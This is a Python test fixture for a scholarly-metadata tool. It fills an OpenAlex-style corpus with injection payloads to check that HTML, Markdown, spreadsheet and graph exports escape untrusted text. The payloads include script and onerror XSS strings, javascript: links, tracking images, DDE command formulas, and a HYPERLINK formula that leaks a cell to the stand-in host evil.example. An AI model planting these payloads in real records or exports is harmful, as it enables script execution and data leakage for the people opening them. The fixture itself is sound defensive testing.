"""The known-answer corpus with attack payloads in every text field a record carries.

Anyone can publish a paper, so titles, author names, DOIs, raw affiliation strings and
institution display names are attacker-controlled. Each payload aims at one output
context: HTML (script, event handler, attribute break-out), Markdown (raw HTML, links,
tracking images), spreadsheets (formulas) and pyvis's switch to innerHTML ("href").
The ties stay the known ones (ids and the institution part of each raw string are kept),
so every payload reaches a path, a tooltip and every export.
"""

from __future__ import annotations

import copy
from pathlib import Path

import orjson

from tests.corpus import OA, known_works

EVIL_HOST = "evil.example"
PAYLOADS = [
    "<img src=x onerror=alert(1)> href",
    "<script>alert(2)</script>",
    f'"><img src="https://{EVIL_HOST}/a.png" onerror="alert(3)">',
    f"![t](http://{EVIL_HOST}/pixel.png)",
    f"[click me](javascript:alert(4)) <http://{EVIL_HOST}/autolink>",
    '=HYPERLINK("http://evil.example/?leak="&A1,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "`code` *bold* _em_ | pipe | &lt;b&gt; &#60;img&#62;",
]
HOSTILE_DOIS = [
    'https://doi.org/10.5555/x"><img src=x onerror=alert(5)>',
    "javascript:alert(6)",
    f"[doi](http://{EVIL_HOST}/doi)",
    f"=IMPORTXML(\"http://{EVIL_HOST}\",\"//a\")",
]


def _payload(i: int) -> str:
    return PAYLOADS[i % len(PAYLOADS)]


def hostile_works() -> list[dict]:
    """The known works, each text field carrying a payload (ids and years unchanged)."""
    works = copy.deepcopy(known_works())
    n = 0
    for w, work in enumerate(works):
        work["title"] = work["display_name"] = f"Work {w} {_payload(w)}"
        work["doi"] = HOSTILE_DOIS[w % len(HOSTILE_DOIS)] if w < len(HOSTILE_DOIS) else work["doi"]
        for authorship in work["authorships"]:
            n += 1
            authorship["author"]["display_name"] = f"{_payload(n)} author {n}"
            authorship["raw_author_name"] = f"{_payload(n + 3)} raw {n}"
            for aff in authorship["affiliations"]:
                aff["raw_affiliation_string"] = f"{_payload(n + 5)}, {aff['raw_affiliation_string']}"
            authorship["raw_affiliation_strings"] = [a["raw_affiliation_string"] for a in authorship["affiliations"]]
            for inst in authorship["institutions"]:
                inst["display_name"] = f"{_payload(n + 7)} {inst['display_name']}"
    # one more record, loaded last, renames every institution it names
    last = copy.deepcopy(works[0])
    last["id"] = f"{OA}W9900000099"
    last["doi"] = "https://doi.org/10.5555/ties-test.99"
    for authorship in last["authorships"]:
        for inst in authorship["institutions"]:
            inst["display_name"] = _payload(0)
            inst["country_code"] = "XX"
            inst["type"] = "<b>funder</b>"
    works.append(last)
    return works


def write_hostile_corpus(folder: Path) -> Path:
    """One OpenAlex list page of the hostile works; returns its path."""
    folder.mkdir(parents=True, exist_ok=True)
    works = hostile_works()
    page = {"meta": {"count": len(works), "per_page": 200, "next_cursor": None}, "results": works}
    path = folder / "hostile_page.json"
    path.write_bytes(orjson.dumps(page))
    return path
